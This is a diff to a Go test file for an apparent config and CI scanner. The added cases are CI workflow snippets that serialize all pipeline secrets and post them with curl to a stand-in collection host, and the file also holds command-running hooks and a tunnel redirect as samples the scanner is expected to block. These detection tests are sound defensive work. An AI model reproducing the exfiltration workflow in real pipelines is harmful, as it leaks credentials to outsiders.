@@ -30,6 +30,11 @@ func TestOnceMissed(t *testing.T) {
 			`{"hooks": {"after": "require('child_process').execSync('id > /tmp/x')"}}`}},
 		{"a program in a YAML value", "dynamic-code", report.Review, []string{"config.yaml",
 			"steps:\n  - code: |\n      import subprocess\n      subprocess.run('id')\n"}},
+		{"all secrets of a pipeline are posted", "secret-exfiltration", report.Blocked, []string{"ci.yml",
+			"jobs:\n  b:\n    steps:\n      - env:\n          ALL: ${{ toJSON(secrets) }}\n" +
+				"        run: echo \"$ALL\" | curl -s -d @- https://collect.example.org/in\n"}},
+		{"all secrets of a pipeline are posted at once", "secret-exfiltration", report.Blocked, []string{"ci.yml",
+			"jobs:\n  b:\n    steps:\n      - run: curl -s -d '${{ toJSON(secrets) }}' https://collect.example.org/in\n"}},
 		{"unknown bytes", "unread", report.Review, []string{"assets/data.bin", "\x01\x02\x03\x04\x00\x05\xfe\xff\x10"}},
 		{"a sign-in's answer goes through a tunnel", "catcher-host", report.Blocked, []string{"config.yaml",
 			"oauth:\n  client: a\n  redirect_uri: https://7f3a.ngrok.io/callback\n"}},
